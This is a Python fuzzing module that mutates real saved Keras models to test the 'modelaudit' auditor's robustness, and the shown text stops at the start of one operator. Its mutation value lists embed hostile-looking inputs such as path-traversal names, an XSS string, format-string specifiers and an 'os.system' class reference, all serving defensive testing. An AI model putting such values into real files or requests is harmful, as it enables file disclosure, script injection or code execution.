"""Mutations of real saved models, and a worker that audits them under the hostile-input invariants.

Shared by the CI suite (tests/hostile/test_fuzz.py, hypothesis with a fixed seed) and the long run
(bench/fuzz.py). Only the standard library is imported at module level: the worker process imports
modelaudit, the seed builder imports keras, the HDF5 mutations import h5py, each when first needed.

A mutated input is a `Case`: the name of a seed (a real model saved by real Keras) and a list of
(operator, integer) steps. Each operator is a deterministic function of the seed's structure and a
`random.Random(integer)`: the same case gives the same file from the same seeds. Structural operators
(JSON edits, zip members, HDF5 objects) reproduce across rebuilds of the seeds; byte-level ones
(truncate, flip) depend on the exact bytes, so regression cases use structural operators.

The invariant for every input (`Harness.check`): the exit code is 0, 1 or 2; an unreadable file
gives exactly one stderr line `PATH: cannot read: ...`; no traceback, no other stderr output, nothing
written to the terminal by C code; under 5 s of CPU and 512 MiB of address space; the input's bytes
unchanged. Each command runs in a child forked from a worker that has imported modelaudit: a fresh
process's state, its own limits, and nothing left behind for the next input.
"""

from __future__ import annotations

import copy
import hashlib
import io
import json
import os
import random
import select
import shutil
import struct
import subprocess
import sys
import tempfile
import warnings
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Optional

ROOT = Path(__file__).resolve().parents[2]

# ---- seeds: real models saved by real Keras ------------------------------------------------------

# seed name -> kind ("keras": a .keras zip, "h5": legacy HDF5, "json": a model config)
SEED_KINDS = {
    "mnist_classifier.keras": "keras",  # samples/: Keras 3 Sequential, compiled
    "multi_input_functional.keras": "keras",  # samples/: shared layer, nested Sequential, dict outputs
    "mnist_classifier_keras2.h5": "h5",  # samples/: tf_keras legacy HDF5
    "k3_functional.keras": "keras",  # tests/zoo.py: nested models, MultiHeadAttention, frozen submodel
    "k3_functional.h5": "h5",  # Keras 3's legacy HDF5 writer
    "k3_functional.json": "json",  # Keras 3 model.to_json()
    "k2_functional.h5": "h5",  # tf_keras (Keras 2) HDF5 writer
    "k2_functional.json": "json",  # tf_keras model.to_json()
    "k3_rich.keras": "keras",  # below: recurrent, conv, wrappers, a Lambda (bytecode)
    "k2_rich.h5": "h5",
    "k3_npz.keras": "keras",  # below: Keras 3's npz weights (saving_lib, weights_format="npz"): pickles
    "tfk_savedmodel/saved_model.pb": "savedmodel",  # below: a tf_keras SavedModel folder (a TFOpLambda too)
}
# Seeds that are a folder: the input is their saved_model.pb, the rest of the folder copied beside it.
FOLDER_KINDS = ("savedmodel",)


def _k3_rich(keras):
    tokens = keras.Input((12,), dtype="int32", name="tokens")
    image = keras.Input((16, 16, 3), name="image")
    x = keras.layers.Embedding(50, 8, name="embed")(tokens)
    x = keras.layers.Bidirectional(keras.layers.LSTM(6, return_sequences=True), name="bilstm")(x)
    x = keras.layers.Conv1D(4, 3, padding="same", name="conv1d")(x)
    x = keras.layers.GRU(5, name="gru")(x)
    y = keras.layers.Conv2D(4, 3, strides=2, name="conv2d")(image)
    y = keras.layers.BatchNormalization(name="bn")(y)
    y = keras.layers.DepthwiseConv2D(3, padding="same", name="dw")(y)
    y = keras.layers.Lambda(lambda t: t * 2.0, name="double")(y)
    y = keras.layers.GlobalAveragePooling2D(name="gap")(y)
    z = keras.layers.Concatenate(name="concat")([x, y])
    z = keras.layers.Dropout(0.1, name="drop")(z)
    out = keras.layers.Dense(3, activation="softmax", name="out")(z)
    model = keras.Model([tokens, image], out, name="k3_rich")
    model.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
    return model


def _k2_rich(tf_keras):
    tokens = tf_keras.Input((12,), name="tokens")
    x = tf_keras.layers.Embedding(50, 8, name="embed")(tokens)
    x = tf_keras.layers.Bidirectional(tf_keras.layers.LSTM(6, return_sequences=True), name="bilstm")(x)
    x = tf_keras.layers.TimeDistributed(tf_keras.layers.Dense(4), name="td")(x)
    x = tf_keras.layers.Conv1D(4, 3, padding="same", name="conv1d")(x)
    x = tf_keras.layers.GlobalMaxPooling1D(name="gmp")(x)
    x = tf_keras.layers.LayerNormalization(name="ln")(x)
    out = tf_keras.layers.Dense(1, activation="sigmoid", name="out")(x)
    model = tf_keras.Model(tokens, out, name="k2_rich")
    model.compile(optimizer="rmsprop", loss="binary_crossentropy", metrics=["accuracy"])
    return model


def build_seeds(folder) -> dict[str, Path]:
    """Every seed in SEED_KINDS, saved by real Keras into `folder` (kept if already there)."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    out = {name: folder / name for name in SEED_KINDS}
    if all(p.exists() and p.stat().st_size for p in out.values()):
        return out
    os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
    import importlib.util

    import keras
    import tf_keras

    spec = importlib.util.spec_from_file_location("_modelaudit_make_samples", ROOT / "samples" / "make_samples.py")
    samples = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(samples)
    for name in ("mnist_classifier.keras", "multi_input_functional.keras", "mnist_classifier_keras2.h5"):
        samples.build(name, str(folder))
    sys.path.insert(0, str(ROOT))
    from tests import zoo

    keras.backend.clear_session()
    zoo.save_all("k3_functional", zoo.k3_functional(keras), str(folder), keras2=False)
    tf_keras.backend.clear_session()
    zoo.save_all("k2_functional", zoo.k2_functional(tf_keras), str(folder), keras2=True)
    keras.backend.clear_session()
    keras.saving.save_model(_k3_rich(keras), str(folder / "k3_rich.keras"))
    tf_keras.backend.clear_session()
    _k2_rich(tf_keras).save(str(folder / "k2_rich.h5"), save_format="h5")
    keras.backend.clear_session()
    from keras.src.saving import saving_lib

    saving_lib.save_model(_k3_rich(keras), str(folder / "k3_npz.keras"), weights_format="npz")
    tf_keras.backend.clear_session()
    _k2_savedmodel(tf_keras).save(str(folder / "tfk_savedmodel"), save_format="tf")
    return out


def _k2_savedmodel(tf_keras):
    import tensorflow as tf

    inp = tf_keras.Input((6,), name="features")
    x = tf_keras.layers.Dense(8, activation="relu", name="hidden")(inp)
    x = tf_keras.layers.BatchNormalization(name="bn")(x)
    out = tf_keras.layers.Dense(2, name="out")(tf.reshape(x, (-1, 8)) * 2.0)
    model = tf_keras.Model(inp, out, name="k2_savedmodel")
    model.compile(optimizer="adam", loss="mse")
    return model


def input_path(seed: str, folder) -> Path:
    """Where a case of `seed` is written in `folder`: `input.<suffix>`, or for a SavedModel seed the
    saved_model.pb of a folder `input_savedmodel` (make copies the rest of the seed's folder there)."""
    if SEED_KINDS[seed] in FOLDER_KINDS:
        return Path(folder) / "input_savedmodel" / Path(seed).name
    return Path(folder) / f"input{Path(seed).suffix}"


# ---- the case: a seed and a list of steps --------------------------------------------------------


@dataclass(frozen=True)
class Case:
    seed: str
    steps: tuple  # ((operator name, int), ...)

    def __str__(self) -> str:
        return self.seed + "".join(f" + {op}({n})" for op, n in self.steps)

    def to_json(self) -> dict:
        return {"seed": self.seed, "steps": [list(s) for s in self.steps]}

    @classmethod
    def from_json(cls, d: dict) -> "Case":
        return cls(d["seed"], tuple((op, int(n)) for op, n in d["steps"]))


@dataclass
class Op:
    name: str
    level: str  # json | zip | hdf5 | bytes
    kinds: tuple  # seed kinds it applies to
    fn: Callable  # (data: bytes, kind: str, rng, ctx) -> bytes | None (None: does not apply)
    raw: bool = False  # edits HDF5 bytes directly (after every h5py edit: h5py never opens a damaged file)


OPS: dict[str, Op] = {}


def op(level: str, kinds=("keras", "h5", "json"), raw: bool = False):
    def deco(fn):
        name = fn.__name__.lstrip("_")
        OPS[name] = Op(name, level, tuple(kinds), fn, raw)
        return fn

    return deco


def stage(name: str) -> int:
    """The order steps run in: JSON edits, h5py edits, raw HDF5 bytes, zip, raw bytes. The HDF5
    library can crash writing to a damaged file, so h5py only ever edits intact ones."""
    o = OPS[name]
    return {"json": 0, "hdf5": 2 if o.raw else 1, "zip": 3, "proto": 3, "bytes": 4}[o.level]


def ops_for(kind: str, levels=None) -> list[str]:
    return sorted(n for n, o in OPS.items() if kind in o.kinds and (levels is None or o.level in levels))


@dataclass
class Context:
    seeds: dict  # name -> Path
    tmp: Path  # scratch folder for h5py edits
    applied: list = field(default_factory=list)

    def seed_bytes(self, name: str) -> bytes:
        return Path(self.seeds[name]).read_bytes()


def make(case: Case, seeds: dict, out: Path, tmp: Optional[Path] = None) -> Path:
    """Write the case's file to `out` (its suffix is the seed's). Steps that do not apply are skipped."""
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile's "Duplicate name" is what we asked for
        return _make(case, seeds, out, tmp)


def _make(case: Case, seeds: dict, out: Path, tmp: Optional[Path]) -> Path:
    kind = SEED_KINDS[case.seed]
    data = Path(seeds[case.seed]).read_bytes()
    ctx = Context(seeds, Path(tmp or out.parent))
    for name, n in case.steps:
        o = OPS[name]
        if kind not in o.kinds:
            continue
        try:
            new = o.fn(data, kind, random.Random(n), ctx)
        except _NotApplicable:
            new = None
        except Exception:  # the operator met a shape it does not handle: skip it, as one that does not apply
            new = None
        if new is not None:
            data = new
            ctx.applied.append(name)
    if kind in FOLDER_KINDS:  # the rest of the seed's folder beside the mutated file
        shutil.copytree(Path(seeds[case.seed]).parent, out.parent, dirs_exist_ok=True,
                        ignore=lambda d, names: [Path(case.seed).name] if Path(d) == Path(seeds[case.seed]).parent else [])
    out.write_bytes(data)
    return out


class _NotApplicable(Exception):
    pass


def _need(cond) -> None:
    if not cond:
        raise _NotApplicable()


# ---- carriers: where the JSON lives in each kind of file -----------------------------------------


def zip_entries(data: bytes) -> list:
    """[(ZipInfo, bytes)] of an archive, in order; _NotApplicable if it no longer parses."""
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            return [(info, zf.read(info)) for info in zf.infolist()]
    except Exception:
        raise _NotApplicable() from None


def build_zip(entries) -> bytes:
    """An archive from [(name or ZipInfo, bytes, compress_type or None)]."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", allowZip64=True) as zf:
        for name, payload, compress in entries:
            info = copy.copy(name) if isinstance(name, zipfile.ZipInfo) else zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0))
            if compress is not None:
                info.compress_type = compress
            info.extra = b""
            zf.writestr(info, payload)
    return buf.getvalue()


def _rezip(data: bytes, edit) -> bytes:
    """Rebuild the archive after edit([(info, bytes, compress)]) changed the list in place."""
    entries = [(info, payload, info.compress_type) for info, payload in zip_entries(data)]
    edit(entries)
    return build_zip(entries)


def json_slots(data: bytes, kind: str) -> list[str]:
    if kind == "json":
        return [""]
    if kind == "keras":
        names = [info.filename for info, _ in zip_entries(data)]
        return [n for n in ("config.json", "metadata.json") if n in names]
    attrs = _h5_attrs(data)
    return [k for k in ("model_config", "training_config") if k in attrs]


def get_json(data: bytes, kind: str, slot: str) -> bytes:
    if kind == "json":
        return data
    if kind == "keras":
        return next(payload for info, payload in zip_entries(data) if info.filename == slot)
    value = _h5_attrs(data)[slot]
    return value if isinstance(value, bytes) else str(value).encode("utf-8", "surrogatepass")


def put_json(data: bytes, kind: str, slot: str, text: bytes, ctx: Context) -> bytes:
    if kind == "json":
        return text
    if kind == "keras":

        def edit(entries):
            for i, (info, _, c) in enumerate(entries):
                if info.filename == slot:
                    entries[i] = (info, text, c)

        return _rezip(data, edit)

    def set_attr(h5):
        import numpy as np

        try:
            h5.attrs[slot] = np.bytes_(text) if b"\0" not in text else np.void(text)
        except Exception:  # too large for the object header: a variable-length string instead
            import h5py

            if slot in h5.attrs:
                del h5.attrs[slot]
            h5.attrs.create(slot, text.decode("utf-8", "replace").replace("\0", " "), dtype=h5py.string_dtype())

    return h5_edit(data, set_attr, ctx)


def _h5_attrs(data: bytes) -> dict:
    import h5py

    try:
        with h5py.File(io.BytesIO(data), "r") as h5:
            return {k: h5.attrs[k] for k in h5.attrs}
    except Exception:
        raise _NotApplicable() from None


def h5_edit(data: bytes, edit, ctx: Context) -> bytes:
    """data is an HDF5 file: a copy edited with h5py (r+), returned as bytes."""
    import h5py

    fd, name = tempfile.mkstemp(suffix=".h5", dir=ctx.tmp)
    os.close(fd)
    try:
        Path(name).write_bytes(data)
        try:
            with h5py.File(name, "r+") as h5:
                edit(h5)
        except _NotApplicable:
            raise
        except Exception:
            raise _NotApplicable() from None
        return Path(name).read_bytes()
    finally:
        os.unlink(name)


WEIGHTS = "model.weights.h5"


def with_hdf5(data: bytes, kind: str, fn) -> bytes:
    """Apply fn(hdf5 bytes) -> hdf5 bytes to the file (h5) or to the .keras weights member."""
    if kind == "h5":
        return fn(data)
    _need(kind == "keras")
    entries = [(info, payload, info.compress_type) for info, payload in zip_entries(data)]
    idx = [i for i, (info, *_ ) in enumerate(entries) if info.filename == WEIGHTS]
    _need(idx)
    i = idx[-1]
    info, payload, c = entries[i]
    _need(payload.startswith(b"\x89HDF"))
    entries[i] = (info, fn(payload), c)
    return build_zip(entries)


MAX_JSON_OUT = 16 << 20  # a mutation that grows a config past this is skipped (generation time)


def with_json(data: bytes, kind: str, rng, ctx, fn, text_level: bool = False, limit: int = 0) -> bytes:
    """Apply fn to a JSON document of the file (the model config mostly): fn(obj, rng) -> obj, or for
    text_level fn(bytes, rng) -> bytes."""
    slots = json_slots(data, kind)
    _need(slots)
    slot = slots[0] if (len(slots) == 1 or rng.random() < 0.85) else rng.choice(slots[1:])
    text = get_json(data, kind, slot)
    if text_level:
        new = fn(text, rng)
    else:
        try:
            obj = json.loads(text)
        except Exception:
            raise _NotApplicable() from None
        obj = fn(obj, rng)
        new = json.dumps(obj).encode("utf-8", "surrogatepass")
    _need(len(new) <= (limit or MAX_JSON_OUT))
    return put_json(data, kind, slot, new, ctx)


# ---- JSON level ------------------------------------------------------------------------------------

WEIRD_NAMES = [
    "", " ", "a/b", "../../etc/passwd", "/etc/passwd", "C:\\Windows\\system32", "..", ".", "layers", "vars",
    "model_weights", "dense\nsecond line", "tab\tname", "cr\rname", "nul\x00byte", "\u202egnp.exe", "名前",
    "😀😀", "x" * 5000, "dense", "input_layer", "%s%n%x", "{0}{name}", "'quote\"", "<script>alert(1)</script>",
    "\ud800lone", "line\u2028sep", "\x1b[31mred", "dense/vars/0", "layers/dense", "__keras_tensor__", "\x85nel",
]

NUMBERS = [
    0, -1, 1, 2, -2**31, 2**31 - 1, 2**31, 2**32, -2**63, 2**63 - 1, 2**63, 2**64 + 1, 10**18, 10**30, -10**30,
    2**1000, 1e308, -1e308, float("inf"), float("-inf"), float("nan"), 0.5, -0.5, 1e-308, 3.0, -0.0,
    True, False,
]

WEIRD_VALUES = NUMBERS + [
    None, "", "x", "A" * 10000, [], {}, [None], [[]], [[[]]], {"class_name": "Dense"}, "../../etc/passwd",
    "\u202e", "\x00", "a\nb", [1, 2, 3], list(range(1000)), "None", "nan", "same", "valid", "relu", "softmax",
    {"class_name": "__keras_tensor__", "config": {}}, {"class_name": "__keras_tensor__", "config": {"keras_history": 5}},
    {"module": "os", "class_name": "system", "config": {}}, {"class_name": "Lambda", "config": {"function": None}},
    [-1, -1], [0, 0], [2**40, 2**40], [None, None, None, None, None, None, None, None, None], "\ud800",
    {"__class__": "x"}, [{"a": [{"b": []}]}], "float16", "mixed_float16", {"class_name": "DTypePolicy", "config": {"name": 5}},
]

CLASS_NAMES = [
    "Dense", "Conv2D", "Conv1D", "Conv3D", "Conv2DTranspose", "SeparableConv2D", "DepthwiseConv2D", "LSTM", "GRU",
    "SimpleRNN", "Bidirectional", "TimeDistributed", "MultiHeadAttention", "Attention", "Reshape", "Flatten",
    "Permute", "RepeatVector", "Concatenate", "Add", "Multiply", "Dot", "Embedding", "BatchNormalization",
    "LayerNormalization", "Dropout", "MaxPooling2D", "AveragePooling1D", "GlobalAveragePooling2D", "ZeroPadding2D",
    "Cropping2D", "UpSampling2D", "InputLayer", "Sequential", "Functional", "Model", "Lambda", "TFOpLambda",
    "Custom>Foo", "", "__keras_tensor__", "Dense>Dense", "Activation", "Softmax", "ReLU", "PReLU", "Rescaling",
    "Normalization", "StringLookup", "TextVectorization", "CategoryEncoding", "Discretization", "Hashing",
    "RandomFlip", "Resizing", "ConvLSTM2D", "GroupNormalization", "UnitNormalization", "Masking",
    "SpatialDropout2D", "GaussianNoise", "EinsumDense", "Identity", "NoSuchLayer", "keras.layers.Dense",
]

CONFIG_KEYS = [
    "units", "filters", "kernel_size", "strides", "pool_size", "padding", "axis", "target_shape", "dims",
    "num_heads", "key_dim", "value_dim", "rate", "activation", "dtype", "use_bias", "input_dim", "output_dim",
    "dilation_rate", "depth_multiplier", "groups", "data_format", "return_sequences", "return_state", "n",
    "size", "cropping", "merge_mode", "layer", "output_shape", "equation", "batch_shape", "shape", "trainable",
    "epsilon", "center", "scale", "cell", "keepdims", "output_mode", "num_tokens", "vocabulary", "max_tokens",
    "mean", "variance", "bin_boundaries", "height", "width", "crop_to_aspect_ratio", "attention_axes",
]

CONFIG_VALUES = WEIRD_VALUES + [
    [3, 3], [1, 1], [0, 3], [-3, 3], [3], [3, 3, 3, 3], [2**31, 2**31], 7, -7, 0, 1, "same", "valid", "causal",
    "full", "SAME", "channels_first", "channels_last", "concat", "sum", "ave", "mul", None, [-1], [-1, -1],
    [0], [2, 0, 1], [1, 1], [3, 2, 1], [1, 2, 3, 4], 100, -100, [100], "ab,bc->ac", "...a,ab->...b", "ab->",
    "int", "one_hot", "multi_hot", "count", "tf_idf", ["a", "b"], [[1, 2], [3, 4]], [1e308, -1e308],
]

SHAPES = [
    [], [None], [None, 0], [None, -1], [None, -16], [None, 2**62, 2**62], [None, 10**30], [None] + [2] * 40,
    [None] * 100, [None, 1.5], [None, True], [None, "16"], "abc", 16, None, [None, 16, 16, 3], [None, 16],
    [2**31], [None, 2**31, 2**31, 2**31], [None, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1], [-1, -1, -1],
    [None, float("inf")], [None, float("nan")], [[None, 16]], [[None, 16], [None, 16]], {"a": [None, 16]},
]


def _size(obj) -> int:
    """Bytes of obj as JSON: checked before an operator repeats obj many times (a subtree shared by
    many references is cheap in memory and not cheap to write: the generator must not blow up)."""
    try:
        return len(json.dumps(obj))
    except (ValueError, TypeError, RecursionError):
        raise _NotApplicable() from None


def _nodes(obj) -> list:
    """[(container, key, value)] for every value under obj (iteratively)."""
    out, stack = [], [(None, None, obj)]
    while stack:
        parent, key, value = stack.pop()
        out.append((parent, key, value))
        if isinstance(value, dict):
            stack.extend((value, k, v) for k, v in value.items())
        elif isinstance(value, list):
            stack.extend((value, i, v) for i, v in enumerate(value))
    return out


def _containers(obj) -> list:
    """[(key, value)] for every dict and list under obj, in _nodes's order. A scalar is a leaf, so
    leaving the scalars out changes no container's place; they are most of a config's values, and a
    config grown to millions of values (inbound_nodes repeated) is walked in half the time."""
    out, stack = [], [(None, obj)]
    while stack:
        key, value = stack.pop()
        out.append((key, value))
        if isinstance(value, dict):
            stack.extend([(k, v) for k, v in value.items() if isinstance(v, (dict, list))])
        elif isinstance(value, list):
            stack.extend([(i, v) for i, v in enumerate(value) if isinstance(v, (dict, list))])
    return out


def _layers(obj) -> list:
    """Every layer-like dict: class_name and a config object, inside some `layers` list."""
    out = []
    for key, value in _containers(obj):
        if isinstance(value, dict) and isinstance(value.get("class_name"), str) and isinstance(value.get("config"), dict):
            out.append(value)
    return out


def _layer_name(layer: dict):
    name = layer.get("name")
    if not isinstance(name, str):
        name = layer["config"].get("name") if isinstance(layer.get("config"), dict) else None
    return name


def _refs(obj) -> list:
    """Every tensor reference: Keras 3 keras_history lists, Keras 2 inbound entries, and the entries of
    input_layers/output_layers (mutable lists)."""
    out = []
    for key, value in _containers(obj):  # every value that can hold a reference is a list or a dict
        if key == "keras_history" and isinstance(value, list):
            out.append(value)
        elif key == "inbound_nodes" and isinstance(value, list):
            for node in value:
                if isinstance(node, list):
                    out.extend(e for e in node if isinstance(e, list) and e and isinstance(e[0], str))
        elif key in ("input_layers", "output_layers"):
            items = list(value.values()) if isinstance(value, dict) else value if isinstance(value, list) else []
            if items and isinstance(items[0], str):
                out.append(items)
            else:
                out.extend(e for e in items if isinstance(e, list) and e and isinstance(e[0], str))
    return out


def _pick(rng, nodes, want=None):
    nodes = [n for n in nodes if n[0] is not None and (want is None or want(n))]
    _need(nodes)
    return rng.choice(nodes)


def _wrong_type(obj, rng):
    parent, key, _ = _pick(rng, _nodes(obj))
    parent[key] = copy.deepcopy(rng.choice(WEIRD_VALUES))
    return obj


def _number(obj, rng):
    parent, key, _ = _pick(rng, _nodes(obj), lambda n: isinstance(n[2], (int, float)) and not isinstance(n[2], bool))
    parent[key] = rng.choice(NUMBERS)
    return obj


IMPORTANT_KEYS = {"class_name", "config", "name", "inbound_nodes", "layers", "batch_shape", "units", "keras_history",
                  "input_layers", "output_layers", "args", "kwargs", "build_config", "input_shape", "shape", "module",
                  "registered_name", "compile_config", "loss", "layer", "filters", "kernel_size", "dtype"}


def _delete_key(obj, rng):
    dicts = [v for _, _, v in _nodes(obj) if isinstance(v, dict) and v]
    _need(dicts)
    important = [(d, k) for d in dicts for k in d if k in IMPORTANT_KEYS]
    if important and rng.random() < 0.7:
        d, k = rng.choice(important)
    else:
        d = rng.choice(dicts)
        k = rng.choice(list(d))
    del d[k]
    return obj


def _deep_nest(obj, rng):
    parent, key, value = _pick(rng, _nodes(obj))
    depth = rng.choice([10, 60, 100, 199, 200, 201, 300, 1000, 5000, 50000])
    node = value
    for i in range(depth):
        node = [node] if (i + rng.randrange(2)) % 2 else {"x": node}
    parent[key] = node
    return obj


def _inbound(obj, rng):
    """Cycles, self-loops and dangling references in the graph's wiring."""
    refs = _refs(obj)
    _need(refs)
    names = [n for n in (_layer_name(layer) for layer in _layers(obj)) if isinstance(n, str)] or ["x"]
    for _ in range(rng.choice([1, 1, 1, 2, 3])):
        ref = rng.choice(refs)
        what = rng.randrange(9)
        if what <= 2:  # another layer: a cycle, a self-loop or a forward edge
            ref[0] = rng.choice(names)
        elif what == 3:
            ref[0] = rng.choice(["no_such_layer", "", "../x", "\ud800", 5, None])
        elif what == 4 and len(ref) > 1:
            ref[1] = rng.choice([-1, 1, 2, 7, 2**31, 10**20, "0", None, 1.5, [], True])
        elif what == 5 and len(ref) > 2:
            ref[2] = rng.choice([-1, 1, 2, 7, 2**31, 10**20, "0", None, 1.5, {}, True])
        elif what == 6:
            del ref[rng.randrange(len(ref)):]
        elif what == 7:
            ref.extend(copy.deepcopy(ref))
        else:
            ref[:] = [rng.choice(names), 0, 0]
    return obj


def _inbound_nodes(obj, rng):
    """Whole inbound_nodes lists: emptied, duplicated (more calls), replaced, or swapped between layers."""
    layers = [layer for layer in _layers(obj) if "inbound_nodes" in layer]
    _need(layers)
    layer = rng.choice(layers)
    what = rng.randrange(6)
    nodes = layer["inbound_nodes"]
    if what == 0:
        layer["inbound_nodes"] = []
    elif what == 1 and isinstance(nodes, list) and len(nodes) < 1000:
        times = rng.choice([1, 5, 300])
        _need(_size(nodes) * times <= MAX_JSON_OUT)
        layer["inbound_nodes"] = nodes + copy.deepcopy(nodes) * times
    elif what == 2:
        other = rng.choice(layers)
        layer["inbound_nodes"], other["inbound_nodes"] = other["inbound_nodes"], layer["inbound_nodes"]
    elif what == 3:
        layer["inbound_nodes"] = copy.deepcopy(rng.choice(WEIRD_VALUES))
    elif what == 4 and isinstance(nodes, list) and nodes:
        node = nodes[0]
        if isinstance(node, dict):
            node["args"] = rng.choice([[], [node.get("args")], None, "x", {"a": 1}, [[[[]]]]])
        else:
            nodes[0] = rng.choice([[], [[]], [["x"]], "x", None])
    else:
        # every layer of the model consumes the last one: cycles everywhere
        target = _layer_name(layers[-1])
        for other in layers[: rng.randrange(1, len(layers) + 1)]:
            for ref in _refs({"inbound_nodes": other.get("inbound_nodes")}) + _refs(other.get("inbound_nodes")):
                ref[0] = target
    return obj


def _rename(obj, rng):
    """A layer renamed to something odd; usually its references follow, so the name reaches the report."""
    layers = _layers(obj)
    _need(layers)
    layer = rng.choice(layers)
    old = _layer_name(layer)
    new = rng.choice(WEIRD_NAMES + [n for n in (_layer_name(x) for x in layers) if isinstance(n, str)])
    if "name" in layer:
        layer["name"] = new
    layer["config"]["name"] = new
    if rng.random() < 0.7 and isinstance(old, str):
        for ref in _refs(obj):
            if ref and ref[0] == old:
                ref[0] = new
        for _, _, value in _nodes(obj):  # a dict of outputs keyed by name
            if isinstance(value, dict) and old in value and isinstance(value[old], (list, str)):
                value[new] = value.pop(old)
    return obj


def _model_name(obj, rng):
    _need(isinstance(obj, dict))
    cfg = obj.get("config") if isinstance(obj.get("config"), dict) else obj
    cfg["name"] = rng.choice(WEIRD_NAMES)
    return obj


def _class(obj, rng):
    layers = _layers(obj)
    _need(layers)
    layer = rng.choice(layers)
    layer["class_name"] = rng.choice(CLASS_NAMES)
    if rng.random() < 0.3:
        layer["module"] = rng.choice(["keras.layers", "keras.src.ops.numpy", "os", "builtins", "", None, 5, "tensorflow"])
    if rng.random() < 0.2:
        layer["registered_name"] = rng.choice(["Custom>Foo", "", None, "a>b>c", 1])
    return obj


def _config_value(obj, rng):
    layers = _layers(obj)
    _need(layers)
    for _ in range(rng.choice([1, 1, 2, 4])):
        cfg = rng.choice(layers)["config"]
        keys = [k for k in cfg if k in CONFIG_KEYS]
        key = rng.choice(keys) if keys and rng.random() < 0.8 else rng.choice(CONFIG_KEYS)
        cfg[key] = copy.deepcopy(rng.choice(CONFIG_VALUES))
    return obj


def _shape(obj, rng):
    """Recorded shapes (batch_shape, build_config, keras tensors' shape) set to odd values."""
    spots = [(p, k) for p, k, _ in _nodes(obj) if k in ("batch_shape", "batch_input_shape", "input_shape", "shape")]
    _need(spots)
    for _ in range(rng.choice([1, 1, 3])):
        parent, key = rng.choice(spots)
        parent[key] = copy.deepcopy(rng.choice(SHAPES))
    return obj


def _splice(obj, rng):
    """A subtree copied over another: configs of the wrong layer, a model inside its own layer, layers
    duplicated (same names) or repeated many times."""
    nodes = [n for n in _nodes(obj) if n[0] is not None]
    _need(nodes)
    layers = _layers(obj)
    what = rng.randrange(5)
    if what == 0 or not layers:
        parent, key, _ = rng.choice(nodes)
        parent[key] = copy.deepcopy(rng.choice(nodes)[2])
    elif what == 1:
        a, b = rng.choice(layers), rng.choice(layers)
        a["config"] = copy.deepcopy(b["config"])
    elif what == 2:  # the whole model as one of its own layers (nested models)
        layer = rng.choice(layers)
        inner = copy.deepcopy(obj)
        layer.clear()
        layer.update(inner if isinstance(inner, dict) else {"class_name": "x", "config": {}})
    else:  # layers duplicated or repeated
        lists = [v for _, k, v in _nodes(obj) if k == "layers" and isinstance(v, list) and v]
        _need(lists)
        lst = rng.choice(lists)
        n = rng.choice([1, 2, 50, 1000, 3000]) if what == 3 and len(lst) < 5000 else 1
        item = rng.choice(lst)
        _need(_size(item) * n <= MAX_JSON_OUT)
        for i in range(n):
            dup = copy.deepcopy(item)
            if what == 3 and isinstance(dup, dict) and isinstance(dup.get("config"), dict) and rng.random() < 0.9:
                dup["config"]["name"] = dup["name"] = f"dup_{i}"
            lst.insert(rng.randrange(len(lst) + 1), dup)
    return obj


def _compile(obj, rng):
    """The objective: loss, metrics, optimizer and learning rate replaced by odd values."""
    _need(isinstance(obj, dict))
    cc = obj.get("compile_config")
    if not isinstance(cc, dict):
        cc = obj  # a training_config is the object itself
    key = rng.choice(["loss", "metrics", "weighted_metrics", "loss_weights", "optimizer", "optimizer_config",
                      "run_eagerly", "jit_compile"])
    cc[key] = copy.deepcopy(rng.choice(WEIRD_VALUES + [
        "binary_crossentropy", {"a": "mse", "b": None}, ["mse", "x", 5], {"class_name": "Adam", "config": {"learning_rate": -1}},
        {"class_name": "Custom>Adam", "config": {"learning_rate": {"class_name": "ExponentialDecay", "config": {}}}},
        {"module": "keras.losses", "class_name": "CategoricalCrossentropy", "config": {"from_logits": "yes"}},
        [[["accuracy"]]], {"out": ["accuracy", None]},
    ]))
    return obj


for _fn in (_wrong_type, _number, _delete_key, _deep_nest, _inbound, _inbound_nodes, _rename, _model_name, _class,
            _config_value, _shape, _splice, _compile):

    def _wrap(fn):
        def json_op(data, kind, rng, ctx):
            return with_json(data, kind, rng, ctx, fn)

        json_op.__name__ = "json" + fn.__name__
        return json_op

    op("json")(_wrap(_fn))


@op("json")
def json_bounds(data, kind, rng, ctx):
    """Sizes at and past the reader's bounds (json_config.MAX_LAYERS, MAX_CALLS, MAX_JSON_VALUES):
    many layers, one layer called many times, a value that is a list of millions of tiny tokens."""
    what = rng.randrange(3)

    def fn(text: bytes, rng) -> bytes:
        try:
            obj = json.loads(text)
        except Exception:
            raise _NotApplicable() from None
        lists = [v for _, k, v in _nodes(obj) if k == "layers" and isinstance(v, list) and v]
        _need(lists)
        layers = rng.choice(lists)
        if what == 0:
            n = rng.choice([5000, 14990, 15001, 30000])
            template = rng.choice([x for x in layers if isinstance(x, dict)] or [{}])
            _need(_size(template) * n <= 64 << 20)  # shallow copies: cheap to make, not to write
            for i in range(n):
                cfg = dict(template.get("config") or {}, name=f"bound_{i}")
                layers.append(dict(template, config=cfg, name=f"bound_{i}"))
            return json.dumps(obj).encode("utf-8", "surrogatepass")
        if what == 1:
            called = [x for x in layers if isinstance(x, dict) and isinstance(x.get("inbound_nodes"), list)
                      and x["inbound_nodes"]]
            _need(called)
            layer = rng.choice(called)
            times = rng.choice([1000, 49000, 60000])
            _need(_size(layer["inbound_nodes"]) * times <= 64 << 20)
            layer["inbound_nodes"] = layer["inbound_nodes"] * times
            return json.dumps(obj).encode("utf-8", "surrogatepass")
        token = rng.choice([b"[],", b"{},", b"0.5,", b"1,", b'"",'])
        n = rng.choice([100_000, 1_900_000, 2_100_000, 5_000_000])
        head, sep, tail = text.partition(b'"config": {')
        _need(sep)
        return head + sep + b'"bulk": [' + token * n + b"0], " + tail

    return with_json(data, kind, rng, ctx, fn, text_level=True, limit=64 << 20)


@op("json")
def json_text(data, kind, rng, ctx):
    """The JSON text itself: cut, bytes inserted, not UTF-8, a byte-order mark, NaN literals, duplicate keys."""

